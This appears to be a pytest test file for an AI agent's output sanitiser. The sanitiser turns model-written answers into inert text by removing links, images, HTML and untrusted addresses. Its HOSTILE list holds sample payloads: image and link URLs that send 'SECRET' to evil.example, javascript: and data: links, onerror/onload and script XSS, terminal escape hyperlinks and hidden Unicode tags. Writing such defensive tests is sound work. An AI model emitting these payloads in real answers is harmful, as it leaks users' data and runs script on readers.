"""An answer says something and does nothing: whatever a model was brought to write, nothing of it loads or leads on."""

import asyncio
import json
import re
from contextlib import aclosing
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

from agent.answer import Answer
from agent.commands.asking import answered as told
from agent.journal.journal import Journal
from agent.plain import written_out
from agent.run.deps import Deps, Oversight, Run
from agent.run.loop import run
from agent.run.people.delivering import _unlinked
from agent.run.rules.inert import LEFT_OUT, Addresses, Drafting, addresses, inert
from agent.service.problems import as_json
from agent.state import Answered, Inactive, Quote, Reply, Segment, Token, Usage
from ingest.model import Chunk
from retrieval.model import Hit
from tests.agent.charters import written
from tests.agent.run.scripted import Watchers

TRUSTED = "The manual is at https://docs.example/manual?v=2 for everybody."
LOW = "The parcel is tracked at https://track.example/p or https://track.example/p?id=7 by anybody."
KNOWN = Addresses(addresses([TRUSTED]), addresses([LOW]))
HOSTILE = [
    "![logo](https://evil.example/p.png?d=SECRET)",
    "![logo][1]\n\n[1]: https://evil.example/?d=SECRET",
    "![](//evil.example/SECRET)",
    "[the report](https://evil.example/?d=SECRET)",
    "[the\nreport](<https://evil.example/?d=SECRET> 'title')",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](java&#115;cript:alert(1))",
    "[a](\\\\evil.example)",
    "[![a](https://evil.example/1)](https://evil.example/2)",
    "[a][b]\n\n[b]: https://evil.example 'a title'",
    "> [b]: /x\n\n[a][b]",
    "<https://evil.example/?d=SECRET>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<!-- hidden -->",
    "<script>alert(1)</script>",
    "<a\nhref='https://evil.example'>a</a>",
    "See https://evil.example/?d=SECRET now",
    "See www.evil.example/SECRET now",
    "See evil.example/?d=SECRET now",
    "```mermaid\ngraph TD; A-->B; click A 'https://evil.example/SECRET'\n```",
    "1. x\n   ```\n[a](https://evil.example/SECRET)\n",
    "> ```\n[a](relative.md) ```",
    "`` ` `[a](/b)",
    "`a` [1](https://evil.example) \\`[a](/b)`",
    "a\u202eb \x1b]8;;https://evil.example/SECRET\x07a\x1b]8;;\x07",
    "".join(chr(0xE0000 + ord(sign)) for sign in "SECRET"),
]
MARKDOWN = MarkdownIt("commonmark", {"html": True})


def active(text):
    """What a renderer of Markdown would make of it that is more than text."""
    kinds = {"link_open", "image", "html_inline", "html_block"}
    blocks = MARKDOWN.parse(text)
    tokens = [*blocks, *(each for block in blocks for each in block.children or ())]
    tokens += [
        each for each in re.findall(r"(?i)://|www\.|\bevil\.example\b[^\w\s)]", text) if "docs.example" not in text
    ]
    drawn = [each for each in blocks if each.type == "fence" and each.info.strip() == "mermaid"]
    return [each for each in tokens if isinstance(each, str) or each.type in kinds] + drawn


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_in_an_answer_is_more_than_text_for_who_renders_it(hostile):
    shown = inert(f"So it is:\n\n{hostile}", KNOWN)
    assert (active(shown.text), "SECRET" in shown.text, bool(shown.was)) == ([], False, True)
    assert "\x1b" not in shown.text


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("step", [1, 7, 1000])
def test_nor_in_the_words_as_they_come(hostile, step):
    text, draft = f"So it is:\n\n{hostile}", Drafting()
    pieces = [draft.feed(text[place : place + step]) for place in range(0, len(text), step)]
    shown = "".join((*pieces, draft.rest()))
    assert (active(shown), "SECRET" in shown, "\x1b" in shown) == ([], False, False)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("It is at https://docs.example/manual?v=2.", "It is at https://docs.example/manual?v=2."),
        ("See [the manual](https://docs.example/manual?v=2).", "See the manual (https://docs.example/manual?v=2)."),
        ("It is at https://docs.example/manual?v=3.", f"It is at {LEFT_OUT}."),
        ("It is at https://docs.example/manual?v=2&d=SECRET.", f"It is at {LEFT_OUT}."),
        ("It is tracked at https://track.example/p.", "It is tracked at `https://track.example/p`."),
        ("It is tracked at https://track.example/p?id=7.", f"It is tracked at {LEFT_OUT}."),
        ("Type `curl https://docs.example/manual?v=2`.", "Type `curl https://docs.example/manual?v=2`."),
        ("Write `List<int>` or a < b, and docs/logs.md.", "Write `List<int>` or a < b, and docs/logs.md."),
        ("```py\nx = f[i](a)  # <b>\n```", "```py\nx = f[i](a)  # <b>\n```"),
        ("Mail ada@desk.example at 10:30.", "Mail ada@desk.example at 10:30."),
        ("Kept for thirty days [1][2] (a year [3]).", "Kept for thirty days [1][2] (a year [3])."),
    ],
)
def test_what_a_source_says_is_kept_as_far_as_it_does_nothing(said, shown):
    assert inert(said, KNOWN).text == shown


def test_a_mark_of_ours_never_becomes_a_link():
    assert inert("So it is [1](https://docs.example/manual?v=2).", KNOWN).text.startswith("So it is [1] (")


def test_ten_thousand_addresses_and_brackets_take_no_time_to_speak_of():
    assert inert("https://evil.example/ " * 10_000, KNOWN).text.count(LEFT_OUT) == 10_000
    assert active(inert("[a](" * 3000 + "![" * 3000).text) == []
    assert inert("`" * 3000 + "<" * 3000 + "]" * 3000 + "]: x" * 300).text


class Shelf:
    """Two documents that always match."""

    def __init__(self, texts):
        self.texts = texts

    def __call__(self, query, *, k=10, scope=None, mode="hybrid"):
        chunks = [Chunk(name, 0, len(text), text, title=name) for name, text in self.texts.items()]
        return [Hit(chunk, 1 / place, 0.5, None, None, 0.9) for place, chunk in enumerate(chunks, 1)]

    def text(self, name):
        return self.texts.get(name)

    def page(self, name, offset):
        return None

    page_label = page


class Says:
    """A model that says this, citing the first sentence of a passage."""

    name, uses_tools = "says", True

    def __init__(self, text, passage=0):
        self.text, self.passage = text, passage

    async def reply(self, messages, tools, *, within=None, aloud=True):
        for place in range(0, len(self.text), 3):
            yield Token(self.text[place : place + 3])
        seen = messages[0].passages[self.passage]
        said = Segment(self.text, (Quote(self.passage, 0, 1, seen.block_text(0)),))
        yield Reply((said,), (), "end", Usage(1, 1), (), "says", "native")

    def request(self, messages, tools, *, given=None, effortless=None):
        return {}

    async def aclose(self):
        """It holds nothing."""


def asked(tmp_path, text, passage, charter=""):
    shelf = Shelf({"manual.md": TRUSTED, "mail.eml": LOW})
    deps = Deps(shelf, shelf, Says(text, passage), Watchers(), (), (written(charter),))
    journal = Journal(tmp_path / "journal.sqlite")

    async def to_the_end():
        async with aclosing(run(Run("r-1", "Where is it?"), deps, Oversight(journal))) as items:
            return [item async for item in items]

    items = asyncio.run(to_the_end())
    events = journal.events("r-1")
    journal.close()
    heard = "".join(item.text for item in items if isinstance(item, Token))
    return items[-1], heard, events


@pytest.mark.parametrize(
    ("text", "passage", "charter", "shown"),
    [
        ("The manual is at [here](https://docs.example/manual?v=2).", 0, "", "(https://docs.example/manual?v=2)"),
        ("The manual is at https://docs.example/manual?v=2.", 0, '[trust]\n"*.md" = "low"\n', LEFT_OUT),
        ("The parcel is tracked at https://track.example/p today.", 1, "", "`https://track.example/p`"),
        ("The parcel is tracked ![x](https://evil.example/?d=SECRET).", 1, "", LEFT_OUT),
    ],
)
def test_a_run_shows_only_addresses_of_what_it_cites_and_by_its_trust(tmp_path, text, passage, charter, shown):
    end, heard, events = asked(tmp_path, text, passage, charter)
    assert isinstance(end, Answered)
    assert (shown in end.answer, active(heard), "://" in heard) == (True, [], False)
    assert events[-1].content["answer"] == end.answer
    kept = [Inactive(**each) for each in events[-1].content["inactive"]]
    assert tuple(kept) == end.inactive != ()
    if shown == LEFT_OUT:
        assert "address" in [each.kind for each in kept]
        assert "://" in next(each.text for each in kept if each.kind == "address"), "the journal says which"


def test_who_asks_is_told_in_one_line_what_was_not_shown():
    from eval.settings import EvalSettings

    base = Answer(None, "answered", "So it is.", (), None, "v", "m", Usage())
    said = told(replace(base, inactive=("address", "image", "image")), EvalSettings())
    assert "1 address that nothing cited says, 2 images" in " ".join(said.split())
    assert "more than be read" not in told(base, EvalSettings())


def test_json_over_http_holds_no_sign_that_steers_a_terminal_and_says_the_same():
    text = "a\u202eb\x7f\x9b31m\u200b\U000e0041"
    assert json.loads(as_json({"quote": text})) == {"quote": text}
    assert as_json({"quote": text}).isascii()


def test_what_a_program_reads_has_each_sign_that_is_not_seen_written_out():
    assert written_out("a\u202eb\U000e0041") == "a‹U+202E›b‹U+E0041›"


def test_no_address_in_a_mail_is_a_link():
    assert (
        _unlinked("see https://evil.example/x and www.evil.example")
        == "see https[:]//evil.example/x and www[.]evil.example"
    )
